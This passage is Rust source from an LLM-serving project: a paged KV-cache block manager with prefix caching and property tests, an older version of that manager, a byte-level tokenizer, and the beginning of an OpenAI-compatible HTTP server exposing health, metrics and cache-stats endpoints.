    }

    /// Release a sequence whose prefill only covered its first
    /// `computed_tokens` tokens (abandoned or preempted mid-prefill):
    /// blocks wholly inside the computed prefix retire normally, blocks
    /// containing any never-computed token are blanked — their hashed
    /// contents were never backed by real KV and must not serve future
    /// prefix hits.
    pub fn release_partial(&mut self, seq: u64, computed_tokens: usize) -> Result<(), KvError> {
        let entry = self.seqs.remove(&seq).ok_or(KvError::UnknownSeq(seq))?;
        for (i, b) in entry.blocks.iter().copied().enumerate().rev() {
            let computed = (i + 1) * self.block_size <= computed_tokens;
            self.release_block(b, computed);
        }
        Ok(())
    }

    fn release_block(&mut self, b: u32, cacheable: bool) {
        {
            let block = &mut self.blocks[b as usize];
            debug_assert!(block.refs > 0, "releasing unreferenced block {b}");
            block.refs -= 1;
            if block.refs > 0 {
                return;
            }
        }
        let hash = self.blocks[b as usize].hash;
        let registered = hash.is_some_and(|h| self.by_hash.get(&h) == Some(&b));
        if self.prefix_cache && cacheable && registered {
            // Most recently released = warmest = reclaimed last.
            self.cached.push_back(b);
        } else {
            if let Some(h) = hash {
                if self.by_hash.get(&h) == Some(&b) {
                    self.by_hash.remove(&h);
                }
            }
            let block = &mut self.blocks[b as usize];
            block.hash = None;
            block.tokens.clear();
            self.free.push(b);
        }
    }

    /// The block table for a sequence (what a paged kernel would consume).
    pub fn block_table(&self, seq: u64) -> Option<&[u32]> {
        self.seqs.get(&seq).map(|s| s.blocks.as_slice())
    }

    /// Invariant check for property tests: refcounts exact, free / cached
    /// / live partitions disjoint, cached pool consistent with the hash
    /// index, zero leaks.
    pub fn check_invariants(&self) {
        let mut refs = vec![0u32; self.total];
        for (seq, entry) in &self.seqs {
            assert_eq!(
                entry.blocks.len(),
                self.blocks_for(entry.tokens),
                "seq {seq} block count mismatch"
            );
            for (i, &b) in entry.blocks.iter().enumerate() {
                refs[b as usize] += 1;
                let block = &self.blocks[b as usize];
                let expect = if i + 1 < entry.blocks.len() {
                    self.block_size
                } else {
                    entry.tokens - i * self.block_size
                };
                assert_eq!(
                    block.tokens.len(),
                    expect,
                    "seq {seq} block {b} fill mismatch"
                );
            }
        }
        for (i, block) in self.blocks.iter().enumerate() {
            assert_eq!(block.refs, refs[i], "block {i} refcount drift");
        }
        let mut seen = vec![false; self.total];
        for &b in &self.free {
            assert!(!seen[b as usize], "block {b} double-tracked in free");
            seen[b as usize] = true;
            let block = &self.blocks[b as usize];
            assert_eq!(block.refs, 0, "free block {b} still referenced");
            assert!(
                block.tokens.is_empty() && block.hash.is_none(),
                "free block {b} retains content"
            );
        }
        for &b in &self.cached {
            assert!(!seen[b as usize], "block {b} both free and cached");
            seen[b as usize] = true;
            let block = &self.blocks[b as usize];
            assert_eq!(block.refs, 0, "cached block {b} still referenced");
            let h = block.hash.expect("cached block must be hashed");
            assert_eq!(
                self.by_hash.get(&h),
                Some(&b),
                "cached block {b} not in hash index"
            );
            assert_eq!(
                block.tokens.len(),
                self.block_size,
                "cached block {b} not full"
            );
        }
        for (i, &r) in refs.iter().enumerate() {
            if r > 0 {
                assert!(!seen[i], "block {i} both live and free/cached");
                seen[i] = true;
            }
        }
        assert!(seen.iter().all(|&s| s), "leaked blocks");
        for (&h, &b) in &self.by_hash {
            let block = &self.blocks[b as usize];
            assert_eq!(block.hash, Some(h), "hash index stale for block {b}");
            assert_eq!(
                block.tokens.len(),
                self.block_size,
                "hash index points at partial block {b}"
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::propcheck;

    fn prompt(n: usize, salt: i32) -> Vec<i32> {
        (0..n as i32).map(|i| i * 7 + salt).collect()
    }

    #[test]
    fn admit_grow_release_cycle() {
        let mut bm = BlockManager::new(8, 16);
        assert!(bm.can_admit(&prompt(100, 0)), "100 tokens needs 7 of 8");
        assert!(!bm.can_admit(&prompt(129, 0)), "129 tokens needs 9 of 8");
        let grant = bm.admit(1, &prompt(20, 0)).unwrap(); // 2 blocks
        assert_eq!(grant, AdmitGrant::default(), "cold cache: nothing shared");
        assert_eq!(bm.used_blocks(), 2);
        assert_eq!(bm.block_table(1).unwrap().len(), 2);
        for t in 0..12 {
            bm.append_token(1, 1000 + t).unwrap(); // 20 -> 32 tokens
        }
        assert_eq!(bm.used_blocks(), 2);
        bm.append_token(1, 2000).unwrap(); // 33 tokens -> 3 blocks
        assert_eq!(bm.used_blocks(), 3);
        bm.release(1).unwrap();
        assert_eq!(bm.used_blocks(), 0);
        // The two full blocks retire into the cached pool, not blank free.
        assert_eq!(bm.cached_blocks(), 2);
        assert_eq!(bm.free_blocks(), 6);
        bm.check_invariants();
    }

    #[test]
    fn shared_prefix_attaches_same_blocks() {
        let mut bm = BlockManager::new(16, 4);
        let shared = prompt(12, 0); // 3 full blocks
        let mut a = shared.clone();
        a.extend([900, 901]);
        let mut b = shared.clone();
        b.extend([800, 801, 802]);
        let ga = bm.admit(1, &a).unwrap();
        assert_eq!(ga.cached_tokens, 0);
        let gb = bm.admit(2, &b).unwrap();
        assert_eq!(gb.cached_tokens, 12, "three full blocks reused");
        assert_eq!(gb.shared_blocks, 3);
        let ta = bm.block_table(1).unwrap().to_vec();
        let tb = bm.block_table(2).unwrap().to_vec();
        assert_eq!(ta[..3], tb[..3], "same physical blocks");
        assert_ne!(ta[3], tb[3], "divergent tails are private");
        // 3 shared + 2 private tails live.
        assert_eq!(bm.used_blocks(), 5);
        bm.check_invariants();
        // Releasing one sequence must not free the siblings' blocks.
        bm.release(1).unwrap();
        assert_eq!(bm.block_table(2).unwrap()[..3], tb[..3]);
        bm.check_invariants();
        bm.release(2).unwrap();
        assert_eq!(bm.used_blocks(), 0);
        bm.check_invariants();
    }

    #[test]
    fn released_blocks_serve_later_admissions() {
        let mut bm = BlockManager::new(8, 4);
        let sys = prompt(9, 3); // 2 full blocks + 1 partial
        bm.admit(1, &sys).unwrap();
        bm.release(1).unwrap();
        assert_eq!(bm.cached_blocks(), 2);
        // Same prompt again: the full blocks come back for free.
        let grant = bm.admit(2, &sys).unwrap();
        assert_eq!(grant.cached_tokens, 8);
        assert_eq!(grant.shared_blocks, 2);
        assert_eq!(bm.cached_blocks(), 0, "revived out of the pool");
        bm.release(2).unwrap();
        bm.check_invariants();
    }

    #[test]
    fn whole_prompt_cached_still_leaves_one_token() {
        let mut bm = BlockManager::new(8, 4);
        let p = prompt(8, 1); // exactly 2 full blocks
        bm.admit(1, &p).unwrap();
        bm.release(1).unwrap();
        let grant = bm.admit(2, &p).unwrap();
        // Only the first block may be reused: the final token must be
        // recomputed to produce next-token logits.
        assert_eq!(grant.cached_tokens, 4);
        bm.release(2).unwrap();
        bm.check_invariants();
    }

    #[test]
    fn cached_pool_reclaimed_under_pressure_lru_first() {
        let mut bm = BlockManager::new(4, 4);
        bm.admit(1, &prompt(8, 0)).unwrap(); // 2 full blocks
        bm.release(1).unwrap();
        bm.admit(2, &prompt(8, 50)).unwrap(); // different contents
        bm.release(2).unwrap();
        assert_eq!(bm.cached_blocks(), 4);
        assert_eq!(bm.free_blocks(), 0);
        // A fresh 3-block prompt must reclaim 3 cached blocks: seq 1's
        // colder pair first (leaf before root), then seq 2's leaf —
        // leaving seq 2's chain *root*, the block that keeps a future
        // prefix walk alive.
        bm.admit(3, &prompt(12, 99)).unwrap();
        assert_eq!(bm.cached_blocks(), 1);
        // Seq 1's contents are gone entirely...
        assert_eq!(bm.admit(4, &prompt(8, 0)), Err(KvError::OutOfBlocks));
        bm.release(3).unwrap();
        // ...but seq 2's surviving root still serves a prefix hit.
        let grant = bm.admit(5, &prompt(8, 50)).unwrap();
        assert_eq!(grant.cached_tokens, 4, "chain root survived reclaim");
        bm.release(5).unwrap();
        bm.check_invariants();
    }

    #[test]
    fn partially_prefilled_blocks_never_serve_prefix_hits() {
        let mut bm = BlockManager::new(8, 4);
        let p = prompt(12, 0); // 3 full blocks
        bm.admit(1, &p).unwrap();
        // The prefill only covered the first 5 tokens before the request
        // was abandoned: block 0 holds real KV, blocks 1-2 never did.
        bm.release_partial(1, 5).unwrap();
        assert_eq!(bm.cached_blocks(), 1, "only the computed block is cacheable");
        bm.check_invariants();
        let grant = bm.admit(2, &p).unwrap();
        assert_eq!(
            grant.cached_tokens, 4,
            "never-computed contents must not count as cached"
        );
        bm.release(2).unwrap();
        bm.check_invariants();
    }

    #[test]
    fn fork_shares_tail_and_copies_on_first_divergent_append() {
        let mut bm = BlockManager::new(8, 4);
        bm.admit(1, &prompt(10, 0)).unwrap(); // 2 full + 1 partial
        let shared = bm.fork(1, 2).unwrap();
        assert_eq!(shared, 3, "every block shared, including the tail");
        let t2 = bm.block_table(2).unwrap().to_vec();
        assert_eq!(bm.block_table(1).unwrap(), &t2[..]);
        assert_eq!(bm.used_blocks(), 3, "fork itself allocates nothing");
        bm.check_invariants();
        // The first divergent append copies the shared partial tail...
        bm.append_token(1, 111).unwrap();
        let t1 = bm.block_table(1).unwrap().to_vec();
        assert_eq!(t1[..2], t2[..2], "full prefix still shared");
        assert_ne!(t1[2], t2[2], "tail copied-on-write, not mutated");
        assert_eq!(bm.used_blocks(), 4);
        bm.check_invariants();
        // ...leaving the sibling's view intact; its own tail is private
        // again (refcount fell back to 1), so it appends in place.
        bm.append_token(2, 222).unwrap();
        assert_eq!(bm.block_table(2).unwrap(), &t2[..]);
        bm.check_invariants();
        bm.release(1).unwrap();
        bm.release(2).unwrap();
        bm.check_invariants();
    }

    #[test]
    fn growth_watermark_reserves_headroom() {
        let mut strict = BlockManager::with_options(4, 4, true, 1);
        // 3 blocks + 1 reserve = 4: fits exactly.
        assert!(strict.can_admit(&prompt(12, 0)));
        // 4 blocks + 1 reserve = 5 > 4: admission control says no...
        assert!(!strict.can_admit(&prompt(16, 0)));
        assert_eq!(
            strict.try_admit(1, &prompt(16, 0)),
            Err(KvError::OutOfBlocks),
            "try_admit enforces the watermark in one pass"
        );
        // ...but hard feasibility would still allow it (preemption path).
        strict.admit(1, &prompt(16, 0)).unwrap();
        strict.release(1).unwrap();
        // With a live sequence, the reserve scales per sequence.
        strict.admit(2, &prompt(4, 0)).unwrap();
        assert!(!strict.can_admit(&prompt(8, 9)), "2+2 reserve + 2 need > 3");
        strict.check_invariants();
        assert!(strict.can_ever_admit(&prompt(12, 0)));
        assert!(!strict.can_ever_admit(&prompt(16, 0)));
    }

    #[test]
    fn prefix_cache_off_is_the_old_allocator() {
        let mut bm = BlockManager::with_options(8, 4, false, 0);
        let p = prompt(8, 0);
        bm.admit(1, &p).unwrap();
        bm.release(1).unwrap();
        assert_eq!(bm.cached_blocks(), 0, "nothing retained");
        assert_eq!(bm.free_blocks(), 8);
        let grant = bm.admit(2, &p).unwrap();
        assert_eq!(grant.cached_tokens, 0, "no reuse with cache off");
        bm.release(2).unwrap();
        bm.check_invariants();
    }

    #[test]
    fn unknown_seq_errors() {
        let mut bm = BlockManager::new(2, 4);
        assert_eq!(bm.append_token(9, 1), Err(KvError::UnknownSeq(9)));
        assert_eq!(bm.release(9), Err(KvError::UnknownSeq(9)));
        assert_eq!(bm.fork(9, 10), Err(KvError::UnknownSeq(9)));
    }

    #[test]
    fn admission_control_blocks_when_full() {
        let mut bm = BlockManager::with_options(4, 16, false, 0);
        bm.admit(1, &prompt(33, 0)).unwrap(); // 3 blocks
        assert!(!bm.can_admit(&prompt(17, 1))); // needs 2, only 1 free
        assert!(bm.can_admit(&prompt(16, 1)));
        assert_eq!(bm.admit(2, &prompt(32, 1)), Err(KvError::OutOfBlocks));
        bm.admit(2, &prompt(16, 1)).unwrap();
        assert_eq!(bm.append_token(2, 7), Err(KvError::OutOfBlocks)); // 17th
        bm.check_invariants();
    }

    #[test]
    fn property_random_workload_never_corrupts() {
        propcheck::quick("block manager invariants", |rng| {
            let total = rng.range(2, 32) as usize;
            let block_size = rng.range(1, 32) as usize;
            let prefix_cache = rng.chance(0.7);
            let mut bm =
                BlockManager::with_options(total, block_size, prefix_cache, 0);
            let mut live: Vec<u64> = Vec::new();
            let mut next_id = 0u64;
            for _ in 0..200 {
                match rng.below(4) {
                    0 => {
                        let tokens: Vec<i32> = (0..rng.range(1, 64))
                            .map(|_| rng.below(64) as i32)
                            .collect();
                        if bm.can_admit(&tokens) {
                            bm.admit(next_id, &tokens).unwrap();
                            live.push(next_id);
                            next_id += 1;
                        } else if bm.admit(next_id, &tokens).is_ok() {
                            // can_admit is conservative (watermark); plain
                            // feasibility may still pass.
                            live.push(next_id);
                            next_id += 1;
                        }
                    }
                    1 => {
                        if let Some(&seq) = rng.choose(&live) {
                            // growth may legitimately fail when full
                            let _ = bm.append_token(seq, rng.below(64) as i32);
                        }
                    }
                    _ => {
                        if !live.is_empty() {
                            let idx = rng.below(live.len() as u64) as usize;
                            let seq = live.swap_remove(idx);
                            bm.release(seq).unwrap();
                        }
                    }
                }
                bm.check_invariants();
            }
        });
    }

    #[test]
    fn route_hash_is_stable_across_conversation_turns() {
        let turn1: Vec<i32> = (0..24).collect();
        let mut turn2 = turn1.clone();
        turn2.extend(100..140);
        // Both turns share the first full block, so they share the key.
        assert_eq!(prefix_route_hash(&turn1, 16), prefix_route_hash(&turn2, 16));
        // A different opening block produces a different key.
        let other: Vec<i32> = (1..25).collect();
        assert_ne!(prefix_route_hash(&turn1, 16), prefix_route_hash(&other, 16));
        // The routing key of a full first block IS that block's chain hash.
        assert_eq!(prefix_route_hash(&turn1, 16), chain_hash(0, &turn1[..16]));
    }

    #[test]
    fn route_hash_handles_short_and_empty_prompts() {
        let short: Vec<i32> = vec![7, 8, 9];
        assert_eq!(prefix_route_hash(&short, 16), chain_hash(0, &short));
        // Empty prompts are legal (key on the offset basis), not a panic.
        assert_eq!(prefix_route_hash(&[], 16), chain_hash(0, &[]));
        // block_size 0 is clamped rather than slicing out of range.
        assert_eq!(prefix_route_hash(&short, 0), chain_hash(0, &short[..1]));
    }
}
