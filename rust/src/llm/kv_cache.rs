//! Paged KV-cache block manager — vLLM's PagedAttention bookkeeping
//! (Kwo+23), adapted per DESIGN.md §Hardware-Adaptation: the *paging* is
//! coordinator state; the kernel/HLO sees contiguous per-slot KV.
//!
//! The manager owns a fixed budget of fixed-size blocks (the device KV
//! memory), hands sequences blocks as they grow token by token, and is
//! the engine's admission control: a sequence is only scheduled when its
//! worst-case block demand fits.

use std::collections::HashMap;

/// Errors surfaced to the engine's admission logic.
#[derive(Debug, PartialEq, Eq, thiserror::Error)]
pub enum KvError {
    #[error("out of KV blocks")]
    OutOfBlocks,
    #[error("unknown sequence {0}")]
    UnknownSeq(u64),
}

/// Block-table entry bookkeeping for one sequence.
#[derive(Debug, Clone)]
struct SeqBlocks {
    blocks: Vec<u32>,
    tokens: usize,
}

/// Fixed-budget block allocator.
pub struct BlockManager {
    block_size: usize,
    free: Vec<u32>,
    seqs: HashMap<u64, SeqBlocks>,
    total: usize,
}

impl BlockManager {
    pub fn new(total_blocks: usize, block_size: usize) -> BlockManager {
        assert!(block_size > 0 && total_blocks > 0);
        BlockManager {
            block_size,
            free: (0..total_blocks as u32).rev().collect(),
            seqs: HashMap::new(),
            total: total_blocks,
        }
    }

    fn blocks_for(&self, tokens: usize) -> usize {
        tokens.div_ceil(self.block_size)
    }

    pub fn free_blocks(&self) -> usize {
        self.free.len()
    }

    pub fn used_blocks(&self) -> usize {
        self.total - self.free.len()
    }

    /// Can a new sequence of `tokens` length be admitted right now?
    pub fn can_admit(&self, tokens: usize) -> bool {
        self.blocks_for(tokens.max(1)) <= self.free.len()
    }

    /// Admit a sequence with its prompt length. Allocates its block table.
    pub fn admit(&mut self, seq: u64, tokens: usize) -> Result<(), KvError> {
        let need = self.blocks_for(tokens.max(1));
        if need > self.free.len() {
            return Err(KvError::OutOfBlocks);
        }
        let blocks = self.free.split_off(self.free.len() - need);
        self.seqs.insert(
            seq,
            SeqBlocks {
                blocks,
                tokens: tokens.max(1),
            },
        );
        Ok(())
    }

    /// Grow a sequence by one generated token, allocating a block at
    /// boundaries. On `OutOfBlocks` the engine must preempt someone.
    pub fn append_token(&mut self, seq: u64) -> Result<(), KvError> {
        let block_size = self.block_size;
        let entry = self.seqs.get_mut(&seq).ok_or(KvError::UnknownSeq(seq))?;
        let new_tokens = entry.tokens + 1;
        if new_tokens.div_ceil(block_size) > entry.blocks.len() {
            let block = self.free.pop().ok_or(KvError::OutOfBlocks)?;
            entry.blocks.push(block);
        }
        entry.tokens = new_tokens;
        Ok(())
    }

    /// Release a finished (or preempted) sequence's blocks.
    pub fn release(&mut self, seq: u64) -> Result<(), KvError> {
        let entry = self.seqs.remove(&seq).ok_or(KvError::UnknownSeq(seq))?;
        self.free.extend(entry.blocks);
        Ok(())
    }

    /// The block table for a sequence (what a paged kernel would consume).
    pub fn block_table(&self, seq: u64) -> Option<&[u32]> {
        self.seqs.get(&seq).map(|s| s.blocks.as_slice())
    }

    /// Invariant check for property tests: no block is both free and
    /// allocated, and nothing leaked.
    pub fn check_invariants(&self) {
        let mut seen = vec![false; self.total];
        for &b in &self.free {
            assert!(!seen[b as usize], "block {b} double-tracked");
            seen[b as usize] = true;
        }
        for (seq, entry) in &self.seqs {
            assert_eq!(
                entry.blocks.len(),
                self.blocks_for(entry.tokens),
                "seq {seq} block count mismatch"
            );
            for &b in &entry.blocks {
                assert!(!seen[b as usize], "block {b} double-allocated (seq {seq})");
                seen[b as usize] = true;
            }
        }
        assert!(seen.iter().all(|&s| s), "leaked blocks");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::propcheck;

    #[test]
    fn admit_grow_release_cycle() {
        let mut bm = BlockManager::new(8, 16);
        assert!(bm.can_admit(100), "100 tokens needs 7 of 8 blocks");
        assert!(!bm.can_admit(129), "129 tokens needs 9 of 8 blocks");
        bm.admit(1, 20).unwrap(); // 2 blocks
        assert_eq!(bm.used_blocks(), 2);
        assert_eq!(bm.block_table(1).unwrap().len(), 2);
        // grow to block boundary
        for _ in 0..12 {
            bm.append_token(1).unwrap(); // 20 -> 32 tokens, still 2 blocks
        }
        assert_eq!(bm.used_blocks(), 2);
        bm.append_token(1).unwrap(); // 33 tokens -> 3 blocks
        assert_eq!(bm.used_blocks(), 3);
        bm.release(1).unwrap();
        assert_eq!(bm.used_blocks(), 0);
        bm.check_invariants();
    }

    #[test]
    fn admission_control_blocks_when_full() {
        let mut bm = BlockManager::new(4, 16);
        bm.admit(1, 33).unwrap(); // 3 blocks
        assert!(bm.can_admit(17) == false); // needs 2, only 1 free
        assert!(bm.can_admit(16));
        assert_eq!(bm.admit(2, 32), Err(KvError::OutOfBlocks));
        bm.admit(2, 16).unwrap();
        assert_eq!(bm.append_token(2), Err(KvError::OutOfBlocks)); // 17th token
        bm.check_invariants();
    }

    #[test]
    fn unknown_seq_errors() {
        let mut bm = BlockManager::new(2, 4);
        assert_eq!(bm.append_token(9), Err(KvError::UnknownSeq(9)));
        assert_eq!(bm.release(9), Err(KvError::UnknownSeq(9)));
    }

    #[test]
    fn property_random_workload_never_corrupts() {
        propcheck::quick("block manager invariants", |rng| {
            let total = rng.range(2, 32) as usize;
            let block_size = rng.range(1, 32) as usize;
            let mut bm = BlockManager::new(total, block_size);
            let mut live: Vec<u64> = Vec::new();
            let mut next_id = 0u64;
            for _ in 0..200 {
                match rng.below(4) {
                    0 => {
                        let tokens = rng.range(1, 64) as usize;
                        if bm.can_admit(tokens) {
                            bm.admit(next_id, tokens).unwrap();
                            live.push(next_id);
                            next_id += 1;
                        } else {
                            assert_eq!(bm.admit(next_id, tokens), Err(KvError::OutOfBlocks));
                        }
                    }
                    1 => {
                        if let Some(&seq) = rng.choose(&live) {
                            // growth may legitimately fail when full
                            let _ = bm.append_token(seq);
                        }
                    }
                    _ => {
                        if !live.is_empty() {
                            let idx = rng.below(live.len() as u64) as usize;
                            let seq = live.swap_remove(idx);
                            bm.release(seq).unwrap();
                        }
                    }
                }
                bm.check_invariants();
            }
        });
    }
}
