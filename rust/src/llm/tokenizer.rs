//! Byte-level tokenizer (vocab 512: 0=PAD, 1..=256 bytes, 257=BOS,
//! 258=EOS; the rest reserved). Matches the vocab the L2 model was
//! trained^W initialized with — a real deployment would ship a BPE
//! vocabulary in the artifact manifest instead.

pub const PAD: i32 = 0;
pub const BOS: i32 = 257;
pub const EOS: i32 = 258;
pub const VOCAB: usize = 512;

/// Encode text as BOS + bytes (byte b → id b+1).
pub fn encode(text: &str) -> Vec<i32> {
    let mut out = Vec::with_capacity(text.len() + 1);
    out.push(BOS);
    out.extend(text.as_bytes().iter().map(|&b| b as i32 + 1));
    out
}

/// Decode ids back to text; non-byte ids are dropped, invalid UTF-8 is
/// replaced (the demo models emit arbitrary bytes).
pub fn decode(ids: &[i32]) -> String {
    let bytes: Vec<u8> = ids
        .iter()
        .filter(|&&id| (1..=256).contains(&id))
        .map(|&id| (id - 1) as u8)
        .collect();
    String::from_utf8_lossy(&bytes).to_string()
}

/// Decode a single token (for streaming, may be an incomplete UTF-8
/// fragment — the stream assembles them client-side).
pub fn decode_token(id: i32) -> Vec<u8> {
    if (1..=256).contains(&id) {
        vec![(id - 1) as u8]
    } else {
        Vec::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_ascii() {
        let ids = encode("Hello, world!");
        assert_eq!(ids[0], BOS);
        assert_eq!(decode(&ids), "Hello, world!");
    }

    #[test]
    fn roundtrip_utf8() {
        let text = "héllo 😀";
        assert_eq!(decode(&encode(text)), text);
    }

    #[test]
    fn specials_are_dropped_on_decode() {
        let mut ids = encode("hi");
        ids.push(EOS);
        ids.push(PAD);
        assert_eq!(decode(&ids), "hi");
    }

    #[test]
    fn ids_in_vocab() {
        for id in encode("any text at all \u{1F600}") {
            assert!((0..VOCAB as i32).contains(&id));
        }
    }

    #[test]
    fn decode_token_fragments_reassemble() {
        let text = "é😀x";
        let ids = encode(text);
        let bytes: Vec<u8> = ids.iter().flat_map(|&id| decode_token(id)).collect();
        assert_eq!(String::from_utf8(bytes).unwrap(), text);
    }
}
