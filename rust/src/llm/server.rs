//! The LLM server instance: what a Slurm service job runs on a GPU node.
//! OpenAI-compatible HTTP API over the continuous-batching engine —
//! functionally the paper's `vLLM` process (§5.7).

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::RecvTimeoutError;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::backend::Backend;
use super::engine::{Engine, EngineConfig, EngineTuning, FinishReason, GenEvent, GenRequest};
use super::sampler::SamplingParams;
use super::tokenizer;
use crate::util::fairness::Priority;
use crate::util::http::{Handler, PooledBuf, Request, Response, Server};
use crate::util::json::Json;
use crate::util::streaming::{CancelToken, StreamHandle, StreamStats, StreamingConfig};
use crate::util::trace;

/// A running LLM server (engine + HTTP endpoint).
pub struct LlmServer {
    pub model: String,
    pub engine: Arc<Engine>,
    pub stream_stats: Arc<StreamStats>,
    server: Server,
    ready: Arc<AtomicBool>,
}

impl LlmServer {
    /// Start serving `backend` as `model` on an ephemeral localhost port
    /// with default streaming tuning.
    pub fn start(model: &str, backend: Arc<dyn Backend>, workers: usize) -> Result<LlmServer> {
        Self::start_with(model, backend, workers, StreamingConfig::default())
    }

    /// Start with explicit `[streaming]` tuning (heartbeats, buffers,
    /// stall policy, the cancellation ablation switch).
    pub fn start_with(
        model: &str,
        backend: Arc<dyn Backend>,
        workers: usize,
        streaming: StreamingConfig,
    ) -> Result<LlmServer> {
        Self::start_tuned(model, backend, workers, streaming, EngineTuning::default())
    }

    /// Start with explicit `[streaming]` *and* `[engine]` tuning (prefix
    /// cache, prefill chunking, KV growth watermark).
    pub fn start_tuned(
        model: &str,
        backend: Arc<dyn Backend>,
        workers: usize,
        streaming: StreamingConfig,
        tuning: EngineTuning,
    ) -> Result<LlmServer> {
        let mut config = EngineConfig::for_backend_tuned(backend.as_ref(), &tuning);
        config.cancellation = streaming.cancellation;
        config.stall_policy = streaming.stall_policy;
        config.stall_buffer = streaming.stall_buffer;
        config.stall_timeout = streaming.stall_timeout;
        let engine = Engine::start(backend, config);
        let ready = Arc::new(AtomicBool::new(true));
        let stream_stats = StreamStats::new();
        let handler = api_handler(
            model.to_string(),
            engine.clone(),
            ready.clone(),
            streaming,
            stream_stats.clone(),
        );
        let server = Server::serve("127.0.0.1:0", &format!("llm-{model}"), workers, handler)?;
        Ok(LlmServer {
            model: model.to_string(),
            engine,
            stream_stats,
            server,
            ready,
        })
    }

    pub fn addr(&self) -> std::net::SocketAddr {
        self.server.addr()
    }

    pub fn url(&self) -> String {
        self.server.url()
    }

    /// Toggle readiness (used to simulate model-load time and drains).
    pub fn set_ready(&self, ready: bool) {
        self.ready.store(ready, Ordering::SeqCst);
    }

    pub fn stop(mut self) {
        self.engine.stop();
        self.server.stop();
    }
}

/// Build the OpenAI-compatible handler.
pub fn api_handler(
    model: String,
    engine: Arc<Engine>,
    ready: Arc<AtomicBool>,
    streaming: StreamingConfig,
    stream_stats: Arc<StreamStats>,
) -> Handler {
    Arc::new(move |req: &Request| -> Response {
        match (req.method.as_str(), req.path.as_str()) {
            ("GET", "/health") => {
                if ready.load(Ordering::SeqCst) {
                    Response::json(200, &Json::obj().set("status", "ok"))
                } else {
                    Response::error(503, "loading")
                }
            }
            ("GET", "/metrics") => {
                Response::text(200, metrics_text(&model, &engine, &stream_stats))
            }
            // Prefix-cache effectiveness snapshot: the cloud interface
            // folds this into the probe payload so the federation router
            // can score clusters by expected cache-hit rate.
            ("GET", "/stats/cache") => Response::json(200, &cache_stats(&model, &engine)),
            ("GET", "/v1/models") => Response::json(
                200,
                &Json::obj().set("object", "list").set(
                    "data",
                    vec![Json::obj()
                        .set("id", model.as_str())
                        .set("object", "model")
                        .set("owned_by", "chat-ai")],
                ),
            ),
            ("POST", "/v1/chat/completions") => {
                if !ready.load(Ordering::SeqCst) {
                    return Response::error(503, "model loading");
                }
                chat_completions(&model, &engine, req, &streaming, &stream_stats)
            }
            ("POST", "/v1/completions") => {
                if !ready.load(Ordering::SeqCst) {
                    return Response::error(503, "model loading");
                }
                completions(&model, &engine, req, &streaming, &stream_stats)
            }
            _ => Response::error(404, "not found"),
        }
    })
}

/// Prefix-cache stats document (`GET /stats/cache`): lifetime counters
/// plus the derived hit rate the federation layer treats as this
/// instance's expected-hit-rate contribution.
fn cache_stats(model: &str, engine: &Engine) -> Json {
    let s = &engine.stats;
    let requests = s.requests.load(Ordering::Relaxed);
    let hits = s.prefix_hits.load(Ordering::Relaxed);
    let hit_rate = if requests > 0 {
        hits as f64 / requests as f64
    } else {
        0.0
    };
    Json::obj()
        .set("model", model)
        .set("requests", requests)
        .set("prefix_hits", hits)
        .set("prefill_tokens", s.prefill_tokens.load(Ordering::Relaxed))
        .set(
            "prefill_tokens_saved",
            s.prefill_tokens_saved.load(Ordering::Relaxed),
        )
        .set("expected_hit_rate", hit_rate)
}

fn metrics_text(model: &str, engine: &Engine, stream_stats: &StreamStats) -> String {
    let s = &engine.stats;
    let mut out = format!(
        "# TYPE llm_requests_total counter\n\
         llm_requests_total{{model=\"{model}\"}} {}\n\
         llm_completed_total{{model=\"{model}\"}} {}\n\
         llm_rejected_total{{model=\"{model}\"}} {}\n\
         llm_cancelled_total{{model=\"{model}\"}} {}\n\
         llm_tokens_saved_total{{model=\"{model}\"}} {}\n\
         llm_stall_disconnects_total{{model=\"{model}\"}} {}\n\
         llm_tokens_dropped_total{{model=\"{model}\"}} {}\n\
         llm_tokens_generated_total{{model=\"{model}\"}} {}\n\
         llm_decode_steps_total{{model=\"{model}\"}} {}\n\
         llm_batched_seqs_total{{model=\"{model}\"}} {}\n\
         llm_prefill_tokens_total{{model=\"{model}\"}} {}\n\
         llm_prefix_hits_total{{model=\"{model}\"}} {}\n\
         llm_prefill_tokens_saved_total{{model=\"{model}\"}} {}\n\
         llm_blocks_shared_total{{model=\"{model}\"}} {}\n\
         llm_preemptions_total{{model=\"{model}\"}} {}\n\
         llm_tokens_recomputed_total{{model=\"{model}\"}} {}\n\
         llm_shed_queue_full_total{{model=\"{model}\"}} {}\n\
         llm_shed_wait_budget_total{{model=\"{model}\"}} {}\n\
         llm_fairness_ratio_milli{{model=\"{model}\"}} {}\n\
         llm_kv_blocks_used{{model=\"{model}\"}} {}\n\
         llm_decode_tps_milli{{model=\"{model}\"}} {}\n\
         llm_queue_depth{{model=\"{model}\"}} {}\n\
         llm_running_seqs{{model=\"{model}\"}} {}\n\
         llm_first_token_p50_us{{model=\"{model}\"}} {}\n\
         llm_first_token_p99_us{{model=\"{model}\"}} {}\n\
         llm_queue_wait_p50_us{{model=\"{model}\"}} {}\n\
         llm_queue_wait_p99_us{{model=\"{model}\"}} {}\n\
         llm_spec_proposed_tokens_total{{model=\"{model}\"}} {}\n\
         llm_spec_accepted_tokens_total{{model=\"{model}\"}} {}\n\
         llm_spec_tokens_per_step_milli{{model=\"{model}\"}} {}\n",
        s.requests.load(Ordering::Relaxed),
        s.completed.load(Ordering::Relaxed),
        s.rejected.load(Ordering::Relaxed),
        s.cancelled.load(Ordering::Relaxed),
        s.tokens_saved.load(Ordering::Relaxed),
        s.stall_disconnects.load(Ordering::Relaxed),
        s.tokens_dropped.load(Ordering::Relaxed),
        s.tokens_generated.load(Ordering::Relaxed),
        s.decode_steps.load(Ordering::Relaxed),
        s.batched_seqs.load(Ordering::Relaxed),
        s.prefill_tokens.load(Ordering::Relaxed),
        s.prefix_hits.load(Ordering::Relaxed),
        s.prefill_tokens_saved.load(Ordering::Relaxed),
        s.blocks_shared.load(Ordering::Relaxed),
        s.preemptions.load(Ordering::Relaxed),
        s.tokens_recomputed.load(Ordering::Relaxed),
        s.shed_queue_full.load(Ordering::Relaxed),
        s.shed_wait_budget.load(Ordering::Relaxed),
        s.fairness_ratio_milli.load(Ordering::Relaxed),
